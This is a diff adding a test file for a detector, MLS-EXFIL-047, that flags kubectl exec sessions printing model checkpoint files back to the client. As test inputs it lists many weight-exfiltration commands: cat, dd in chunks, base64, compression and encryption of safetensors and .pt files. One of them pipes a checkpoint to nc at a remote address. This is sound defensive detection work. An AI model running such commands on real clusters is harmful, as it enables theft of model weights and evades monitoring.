@@ -1,0 +1,108 @@
+/**
+ * `attrs.exec.printsFile` (exec-client-output.ts) through the real reading (exec-canonical.ts):
+ * the files an exec prints to its own output, which kubectl exec carries back to the client.
+ */
+import { describe, expect, it } from 'vitest';
+import { canonicalExec } from './exec-canonical.js';
+import { parseSize, SMALL_READ } from './exec-client-output.js';
+import { execRuleIds, SA } from './exec-events.test-support.js';
+
+const printed = (line: string): readonly string[] => canonicalExec(['sh', '-c', line]).printsFiles;
+
+describe('printsFile: what an exec prints back to its client', () => {
+  it('reads readers whose output reaches the exec: cat, dd if=, head/tail past a header, encoders, compressors to stdout, dumpers, openssl enc -in', () => {
+    expect(canonicalExec(['cat', '/mnt/ckpt/m.safetensors']).printsFiles).toEqual(['cat /mnt/ckpt/m.safetensors']);
+    expect(printed('cat /mnt/ckpt/a.pt /mnt/ckpt/b.pt')).toEqual(['cat /mnt/ckpt/a.pt', 'cat /mnt/ckpt/b.pt']);
+    expect(printed('dd if=/mnt/ckpt/m.pt bs=1M skip=100 count=100 status=none')).toEqual(['dd /mnt/ckpt/m.pt']);
+    expect(printed('dd if=/mnt/ckpt/m.pt of=/dev/stdout')).toEqual(['dd /mnt/ckpt/m.pt']);
+    expect(printed('head -c 100000000 /mnt/ckpt/m.pt')).toEqual(['head /mnt/ckpt/m.pt']);
+    expect(printed('tail -c +100000001 /mnt/ckpt/m.pt')).toEqual(['tail /mnt/ckpt/m.pt']);
+    expect(printed('base64 -w0 /mnt/ckpt/m.pt')).toEqual(['base64 /mnt/ckpt/m.pt']);
+    expect(printed('gzip -c /mnt/ckpt/m.pt')).toEqual(['gzip /mnt/ckpt/m.pt']);
+    expect(printed('zstd -T0 --stdout /mnt/ckpt/m.pt')).toEqual(['zstd /mnt/ckpt/m.pt']);
+    expect(printed('xxd -p /mnt/ckpt/m.pt')).toEqual(['xxd /mnt/ckpt/m.pt']);
+    expect(printed('od -An -tx1 -v /mnt/ckpt/m.pt')).toEqual(['od /mnt/ckpt/m.pt']);
+    expect(printed('openssl enc -aes-256-cbc -pass pass:x -in /mnt/ckpt/m.pt')).toEqual(['openssl /mnt/ckpt/m.pt']);
+    expect(printed('pv -q -L 1m /mnt/ckpt/m.pt')).toEqual(['pv /mnt/ckpt/m.pt']);
+  });
+
+  it('follows a pipeline of stages that pass the bytes on, standard input from the file, stderr and loop lists', () => {
+    expect(printed('cat /mnt/ckpt/m.pt | gzip -9 | base64 -w0')).toEqual(['cat /mnt/ckpt/m.pt']);
+    expect(printed('cat /mnt/ckpt/m.pt | openssl enc -aes-256-cbc -pass pass:k')).toEqual(['cat /mnt/ckpt/m.pt']);
+    expect(printed('base64 < /mnt/ckpt/m.pt')).toEqual(['base64 /mnt/ckpt/m.pt']);
+    expect(printed('cat /mnt/ckpt/m.pt >&2')).toEqual(['cat /mnt/ckpt/m.pt']);
+    expect(printed('sudo cat /mnt/ckpt/m.pt 2>/dev/null')).toEqual(['cat /mnt/ckpt/m.pt']);
+    expect(printed('for f in /mnt/ckpt/a.pt /mnt/ckpt/b.pt; do cat "$f"; done')).toEqual(['cat /mnt/ckpt/a.pt', 'cat /mnt/ckpt/b.pt']);
+  });
+
+  it('leaves output kept in the pod, reduced, sent elsewhere, or a header: no file printed', () => {
+    for (const line of [
+      'cat /mnt/ckpt/m.pt > /dev/null',
+      'cat /mnt/ckpt/m.pt > /tmp/m.pt',
+      'cat /mnt/ckpt/m.pt | sha256sum',
+      'cat /mnt/ckpt/m.pt | gzip | wc -c',
+      'cat /mnt/ckpt/m.pt | gzip > /tmp/m.gz',
+      'cat /mnt/ckpt/m.pt | zstd -o /tmp/m.zst',
+      'cat /mnt/ckpt/m.pt | nc 203.0.113.5 4444',
+      'dd if=/mnt/ckpt/m.pt of=/dev/null bs=1M',
+      'dd if=/mnt/ckpt/m.pt of=/tmp/part bs=1M count=100',
+      'dd if=/mnt/ckpt/m.safetensors bs=1 count=8',
+      'head -c 8 /mnt/ckpt/m.safetensors',
+      'head -c 64K /mnt/ckpt/m.safetensors | xxd',
+      'xxd -l 64 /mnt/ckpt/m.pt',
+      'od -N 16 -tx1 /mnt/ckpt/m.pt',
+      'xxd /mnt/ckpt/m.pt /tmp/m.hex',
+      'gzip /mnt/ckpt/m.pt',
+      'zstd /mnt/ckpt/m.pt -o /tmp/m.zst',
+      'openssl enc -aes-256-cbc -in /mnt/ckpt/m.pt -out /tmp/m.enc -pass pass:k',
+      'sha256sum /mnt/ckpt/m.pt',
+      'ls -la /mnt/ckpt',
+      'python3 train.py --resume /mnt/ckpt/m.pt',
+    ]) expect(printed(line), line).toEqual([]);
+  });
+
+  it('reads sizes as GNU tools write them', () => {
+    expect(parseSize('8')).toBe(8);
+    expect(parseSize('0x40')).toBe(64);
+    expect(parseSize('64K')).toBe(SMALL_READ);
+    expect(parseSize('64KiB')).toBe(SMALL_READ);
+    expect(parseSize('1kB')).toBe(1000);
+    expect(parseSize('10M')).toBe(10 * 1024 * 1024);
+    expect(parseSize('2b')).toBe(1024);
+    expect(parseSize('+100')).toBeNull();
+    expect(parseSize('-100')).toBeNull();
+    expect(parseSize('1Q')).toBeNull();
+  });
+});
+
+describe('MLS-EXFIL-047: exec prints a checkpoint back to its client', () => {
+  it('alerts on a weight file printed whole, in chunks, encoded, compressed or over a loop, from argv or a script', () => {
+    for (const argv of [
+      ['cat', '/mnt/ckpt/llama/model.safetensors'],
+      ['sh', '-c', 'cat /mnt/ckpt/llama/model-00001-of-00004.safetensors'],
+      ['sh', '-c', 'dd if=/mnt/ckpt/llama/consolidated.00.pth bs=1M skip=200 count=100 2>/dev/null'],
+      ['sh', '-c', 'tail -c +104857601 /mnt/ckpt/m.pt | head -c 104857600'],
+      ['sh', '-c', 'cat /mnt/ckpt/m.pt | zstd -c | base64 -w0'],
+      ['sh', '-c', 'gzip -c /data/export/model.gguf'],
+      ['sh', '-c', 'for f in /mnt/ckpt/llama/*.safetensors; do cat "$f"; done'],
+      ['sh', '-c', 'cat /mnt/checkpoints/step-9000/*'],
+      ['base64', '-w0', '/mnt/ckpt/adapter_model.bin'],
+    ]) {
+      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-047');
+      expect(execRuleIds(argv, SA), argv.join(' ')).toContain('MLS-EXFIL-047');
+    }
+  });
+
+  it('leaves configs and logs printed, checkpoints hashed, warmed, copied in the pod or loaded, and header reads', () => {
+    for (const argv of [
+      ['cat', '/mnt/ckpt/llama/config.json'],
+      ['sh', '-c', 'tail -n 100 /mnt/ckpt/llama/trainer_log.txt'],
+      ['sh', '-c', 'sha256sum /mnt/ckpt/llama/*.safetensors'],
+      ['sh', '-c', 'cat /mnt/ckpt/llama/*.safetensors > /dev/null'],
+      ['sh', '-c', 'cp /mnt/ckpt/m.pt /tmp/m.pt && cat /mnt/ckpt/m.pt | wc -c'],
+      ['sh', '-c', 'head -c 8 /mnt/ckpt/m.safetensors | od -An -tu8'],
+      ['sh', '-c', 'python3 -c "import torch; torch.load(\'/mnt/ckpt/m.pt\')"'],
+      ['sh', '-c', 'ls -la /mnt/ckpt/llama'],
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-047');
+  });
+});
